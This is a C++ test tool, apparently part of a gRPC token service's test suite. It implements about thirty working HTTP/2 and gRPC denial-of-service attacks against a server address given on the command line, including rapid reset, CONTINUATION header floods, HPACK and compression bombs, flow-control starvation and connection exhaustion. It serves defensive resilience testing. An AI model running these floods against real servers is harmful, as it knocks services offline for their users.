// One hostile client. It attacks an address for some seconds, connects again whenever the server closes its
// connection, and prints what it did. hostile_clients_test.cc runs it beside honest clients. It connects only
// to the loopback and to unix sockets. With a certificate and a key, it attacks over TLS.
//   hostile-client ATTACK ADDRESS SECONDS [CERTIFICATE KEY]
#include <sys/resource.h>

#include <chrono>
#include <csignal>
#include <fstream>
#include <functional>
#include <iostream>
#include <iterator>
#include <map>
#include <memory>
#include <optional>
#include <stdexcept>
#include <string>
#include <thread>
#include <utility>
#include <vector>

#include "tests/fakes/http2_client.h"

namespace tokend::fakes::http2 {
namespace {

using Clock = std::chrono::steady_clock;
using std::chrono::milliseconds;

constexpr char kCreateToken[] = "/tokend.v1.TokenService/CreateToken";
constexpr char kGetCaller[] = "/tokend.v1.TokenService/GetCaller";
constexpr char kCheck[] = "/grpc.health.v1.Health/Check";
constexpr char kReflection[] = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
// file_containing_symbol of ServerReflectionRequest. The answer holds the files of the API.
constexpr std::string_view kFilesOfTheApi = "\x22\x16tokend.v1.TokenService";
constexpr char kWatch[] = "/grpc.health.v1.Health/Watch";
constexpr std::size_t kBatch = 64 * 1024;
constexpr std::size_t kMaxFrame = 16384;
constexpr std::uint32_t kLastStream = 0x7FFFFFFF;

std::string ReadFile(const std::string& path) {
  std::ifstream file(path, std::ios::binary);
  return {std::istreambuf_iterator<char>(file), {}};
}

// The target of the attack, and its end.
struct Target {
  std::string address;
  std::optional<TlsClient> tls;
  Clock::time_point until;
  std::uint64_t bytes = 0;
  std::uint64_t connections = 0;

  bool IsOver() const { return Clock::now() >= until; }

  // Null if the server accepts no connection now.
  std::unique_ptr<Wire> Connect(const std::string& from = "") {
    try {
      ++connections;
      return std::make_unique<Wire>(address, tls, address.starts_with("unix") ? "" : from);
    } catch (const std::runtime_error&) {
      std::this_thread::sleep_for(milliseconds(1));
      return nullptr;
    }
  }

  bool Blast(Wire& wire, const std::string& frames) {
    bytes += frames.size();
    return wire.Blast(frames, milliseconds(500));
  }
};

std::string Opening(const std::string& settings = "") {
  return std::string(kPreface) + Frame(NGHTTP2_SETTINGS, 0, 0, settings);
}

std::string Setting(std::uint16_t id, std::uint32_t value) { return Number(id, 2) + Number(value, 4); }

// Sends the frames that `next` makes for each new stream. Connects again when the connection has ended.
void Flood(Target& target, const std::string& opening,
           const std::function<std::string(std::uint32_t)>& next) {
  while (!target.IsOver()) {
    const auto wire = target.Connect();
    if (!wire || !target.Blast(*wire, opening)) continue;
    std::uint32_t stream = 1;
    for (bool open = true; open && !target.IsOver() && stream < kLastStream - kBatch;) {
      std::string frames;
      for (; frames.size() < kBatch; stream += 2) frames += next(stream);
      open = target.Blast(*wire, frames);
    }
  }
}

// Opens one stream, resets another, and then sends the same frames repeatedly.
void FloodFrame(Target& target, const std::string& frame) {
  const std::string opening = Opening() + HeaderFrames(1, RequestHeaders(kCreateToken)) +
                              HeaderFrames(3, RequestHeaders(kCreateToken)) +
                              Frame(NGHTTP2_RST_STREAM, 0, 3, Number(NGHTTP2_CANCEL, 4));
  Flood(target, opening, [&frame](std::uint32_t) { return frame; });
}

void RapidReset(Target& target, const std::string& path, const std::string& message) {
  Flood(target, Opening(), [&](std::uint32_t stream) {
    return Request(stream, path, message) + Frame(NGHTTP2_RST_STREAM, 0, stream, Number(NGHTTP2_CANCEL, 4));
  });
}

// An endless header block: 64 MiB on each of four connections, or as much as the server accepts.
void HeaderFlood(Target& target, const std::string& part) {
  std::vector<std::thread> threads;
  std::vector<Target> targets(4, target);
  for (Target& each : targets) {
    threads.emplace_back([&each, &part] {
      while (!each.IsOver()) {
        const auto wire = each.Connect();
        if (!wire) continue;
        std::string frames =
            Opening() + Frame(NGHTTP2_HEADERS, 0, 1, HeaderBlock(RequestHeaders(kGetCaller)));
        bool open = each.Blast(*wire, frames);
        for (std::size_t sent = 0; open && sent < (std::size_t{64} << 20U) && !each.IsOver();
             sent += kMaxFrame) {
          open = each.Blast(*wire, Frame(NGHTTP2_CONTINUATION, 0, 1, part));
        }
      }
    });
  }
  for (std::thread& thread : threads) thread.join();
  for (const Target& each : targets) {
    target.bytes += each.bytes;
    target.connections += each.connections;
  }
}

// One header that announces a value of 24 MiB.
void GiantString(Target& target) {
  std::string head = HeaderBlock(RequestHeaders(kGetCaller)) + std::string("\0\1x", 3);
  std::size_t rest = (std::size_t{24} << 20U) - 127;
  head += '\x7F';
  for (; rest >= 128; rest /= 128) head += static_cast<char>(rest % 128 + 128);
  head += static_cast<char>(rest);
  while (!target.IsOver()) {
    const auto wire = target.Connect();
    if (!wire) continue;
    bool open = target.Blast(*wire, Opening() + Frame(NGHTTP2_HEADERS, 0, 1, head));
    const std::string part = Frame(NGHTTP2_CONTINUATION, 0, 1, std::string(kMaxFrame, 'x'));
    for (int i = 0; open && i < 1536 && !target.IsOver(); ++i) open = target.Blast(*wire, part);
  }
}

// References to one large entry in HPACK's dynamic table: each byte expands to 3,900.
void HpackBomb(Target& target) {
  const std::string entry = std::string("\x40\x01x", 3) + "\x7F\xBD\x1D" + std::string(3900, 'x');
  const std::string block = HeaderBlock(RequestHeaders(kGetCaller)) + entry;
  Flood(target, Opening(), [&](std::uint32_t stream) {
    const std::string first = stream == 1 ? block : HeaderBlock(RequestHeaders(kGetCaller));
    return Frame(NGHTTP2_HEADERS, NGHTTP2_FLAG_END_HEADERS | NGHTTP2_FLAG_END_STREAM, stream,
                 first + std::string(8000, '\xBE'));
  });
}

void SpecialHeaders(Target& target) {
  const Headers headers = {
      {"grpclb_client_stats", "x"},
      {"grpc-internal-encoding-request", "gzip"},
      {"grpc-internal-stream-encoding-request", "gzip"},
      {"lb-token", "x"},
      {"lb-cost-bin", "x"},
      {"grpc-server-stats-bin", "AAAA"},
      {"grpc-trace-bin", "AAAA"},
      {"grpc-tags-bin", "!!!!"},
      {"grpc-previous-rpc-attempts", "-1"},
      {"grpc-retry-pushback-ms", "x"},
      {"grpc-accept-encoding", "x,,,"},
      {"grpc-encoding", std::string(300, 'x')},
      {"grpc-timeout", "99999999999H"},
      {"endpoint-load-metrics-bin", "="},
      {"host", "a, b"},
      {"content-length", "18446744073709551616"},
      {"grpc-status", "0"},
      {"grpc-message", "%"},
  };
  Flood(target, Opening(), [&](std::uint32_t stream) {
    const auto& header = headers[stream / 2 % headers.size()];
    return Request(stream, stream % 4 == 1 ? kGetCaller : "/x/y", "", {header});
  });
}

// Messages that are marked as compressed. Each would be a thousand times as long after decompression.
void CompressionBomb(Target& target) {
  const std::string message = Message(std::string(1900, '\x78'), 1);
  Flood(target, Opening(), [&](std::uint32_t stream) {
    return HeaderFrames(stream, RequestHeaders(kCreateToken, {{"grpc-encoding", "gzip"}})) +
           Frame(NGHTTP2_DATA, NGHTTP2_FLAG_END_STREAM, stream, message);
  });
}

// Requests without flow-control window for their answers, on more and more connections, which stay open.
void UnreadAnswers(Target& target, std::size_t connections, std::uint32_t window) {
  std::vector<std::unique_ptr<Wire>> wires(connections);
  std::vector<std::uint32_t> streams(connections, 1);
  while (!target.IsOver()) {
    for (std::size_t i = 0; i < connections && !target.IsOver(); ++i) {
      if (!wires[i] || wires[i]->closed()) {
        wires[i] = target.Connect();
        streams[i] = 1;
        if (!wires[i]) continue;
        target.Blast(*wires[i], Opening(Setting(NGHTTP2_SETTINGS_INITIAL_WINDOW_SIZE, window)) +
                                    Frame(NGHTTP2_SETTINGS, NGHTTP2_FLAG_ACK, 0, ""));
      }
      std::string frames;
      for (int call = 0; call < 128; ++call, streams[i] += 2) {
        frames += Request(streams[i], kReflection, kFilesOfTheApi);
      }
      target.bytes += frames.size();
      wires[i]->Send(frames, milliseconds(20));
    }
    std::this_thread::sleep_for(milliseconds(10));
  }
}

// Requests that never end, on connections that never acknowledge the settings.
void HalfMessages(Target& target) {
  const std::string part = Message(std::string(60000, 'x')).substr(0, 40000);
  Flood(target, Opening(), [&](std::uint32_t stream) {
    std::string frames = HeaderFrames(stream, RequestHeaders(kCreateToken));
    for (std::size_t at = 0; at < part.size(); at += kMaxFrame) {
      frames += Frame(NGHTTP2_DATA, 0, stream, part.substr(at, kMaxFrame));
    }
    return frames;
  });
}

// As many connections as the process may open. They send nothing, or half a preface.
void Silent(Target& target) {
  std::vector<std::unique_ptr<Wire>> wires;
  const std::optional<TlsClient> tls = std::exchange(target.tls, std::nullopt);
  for (int i = 0; i < 700 && !target.IsOver(); ++i) {
    auto wire = target.Connect("127.0.0.2");
    if (wire && i % 2 == 0)
      wire->Send(std::string_view(kPreface).substr(0, static_cast<std::size_t>(i) % 24));
    wires.push_back(std::move(wire));
  }
  while (!target.IsOver()) std::this_thread::sleep_for(milliseconds(20));
}

// Complete TLS handshakes, one after another, and connections that close in the middle of one.
void Handshakes(Target& target) {
  while (!target.IsOver()) {
    for (int i = 0; i < 8; ++i) target.Connect("127.0.0." + std::to_string(2 + i));
  }
}

using Attack = std::function<void(Target&)>;

const std::map<std::string, Attack>& Attacks() {
  static const std::map<std::string, Attack> attacks = {
      {"special-headers", &SpecialHeaders},
      {"bad-binary",
       [](Target& target) {
         Flood(target, Opening(), [](std::uint32_t stream) {
           return Request(stream, kGetCaller, "", {{"a-bin", "%"}});
         });
       }},
      {"header-flood",
       [](Target& target) {
         std::string part;
         while (part.size() + 5 <= kMaxFrame) part += std::string("\0\1a\1b", 5);
         HeaderFlood(target, part);
       }},
      {"header-flood-empty", [](Target& target) { HeaderFlood(target, ""); }},
      {"header-varint", [](Target& target) { HeaderFlood(target, std::string(kMaxFrame, '\xFF')); }},
      {"giant-string", &GiantString},
      {"hpack-bomb", &HpackBomb},
      {"reset-create", [](Target& target) { RapidReset(target, kCreateToken, "\x12\x07ios-app"); }},
      {"reset-check", [](Target& target) { RapidReset(target, kCheck, ""); }},
      {"reset-caller", [](Target& target) { RapidReset(target, kGetCaller, ""); }},
      {"reset-unknown", [](Target& target) { RapidReset(target, "/x/y", ""); }},
      {"made-reset-header",
       [](Target& target) {
         Flood(target, Opening(), [](std::uint32_t stream) {
           return HeaderFrames(stream, RequestHeaders(kGetCaller, {{"Upper", "case"}}));
         });
       }},
      {"made-reset-window",
       [](Target& target) {
         Flood(target, Opening(), [](std::uint32_t stream) {
           return HeaderFrames(stream, RequestHeaders(kCreateToken)) +
                  Frame(NGHTTP2_WINDOW_UPDATE, 0, stream, Number(0, 4));
         });
       }},
      {"compression-bomb", &CompressionBomb},
      {"zero-window", [](Target& target) { UnreadAnswers(target, 8, 0); }},
      {"unread-answers", [](Target& target) { UnreadAnswers(target, 20, 1U << 30U); }},
      {"half-messages", &HalfMessages},
      {"watches",
       [](Target& target) {
         Flood(target, Opening(), [](std::uint32_t stream) { return Request(stream, kWatch, ""); });
       }},
      {"calls",
       [](Target& target) {
         Flood(target, Opening(), [](std::uint32_t stream) { return Request(stream, kGetCaller, ""); });
       }},
      {"silent", &Silent},
      {"handshakes", &Handshakes},
      {"ping", [](Target& target) { FloodFrame(target, Frame(NGHTTP2_PING, 0, 0, "12345678")); }},
      {"settings", [](Target& target) { FloodFrame(target, Frame(NGHTTP2_SETTINGS, 0, 0, "")); }},
      {"priority",
       [](Target& target) { FloodFrame(target, Frame(NGHTTP2_PRIORITY, 0, 5, std::string(5, '\0'))); }},
      {"window-update",
       [](Target& target) { FloodFrame(target, Frame(NGHTTP2_WINDOW_UPDATE, 0, 1, Number(1, 4))); }},
      {"empty-data", [](Target& target) { FloodFrame(target, Frame(NGHTTP2_DATA, 0, 1, "")); }},
      {"padded-data",
       [](Target& target) {
         FloodFrame(target, Frame(NGHTTP2_DATA, NGHTTP2_FLAG_PADDED, 1,
                                  std::string(1, '\xFF') + std::string(255, '\0')));
       }},
      {"ignored-data", [](Target& target) { FloodFrame(target, Frame(NGHTTP2_DATA, 0, 3, "x")); }},
      {"unknown-frame",
       [](Target& target) { FloodFrame(target, Frame(0xBE, 0, 0, std::string(1000, 'x'))); }},
  };
  return attacks;
}

int Main(int argc, char** argv) {
  if (argc != 4 && argc != 6) {
    std::cerr << "usage: hostile-client ATTACK ADDRESS SECONDS [CERTIFICATE KEY]\n";
    return 2;
  }
  const auto attack = Attacks().find(argv[1]);
  if (attack == Attacks().end()) {
    std::cerr << "hostile-client: no such attack: " << argv[1] << "\n";
    return 2;
  }
  rlimit files{};
  getrlimit(RLIMIT_NOFILE, &files);
  files.rlim_cur = files.rlim_max;
  setrlimit(RLIMIT_NOFILE, &files);
  std::signal(SIGPIPE, SIG_IGN);

  Target target;
  target.address = argv[2];
  target.until = Clock::now() + milliseconds(static_cast<std::int64_t>(std::stod(argv[3]) * 1000));
  if (argc == 6)
    target.tls = TlsClient{.certificate_pem = ReadFile(argv[4]), .private_key_pem = ReadFile(argv[5])};
  attack->second(target);
  std::cout << "bytes: " << target.bytes << ", connections: " << target.connections << "\n";
  return 0;
}

}  // namespace
}  // namespace tokend::fakes::http2

int main(int argc, char** argv) { return tokend::fakes::http2::Main(argc, argv); }
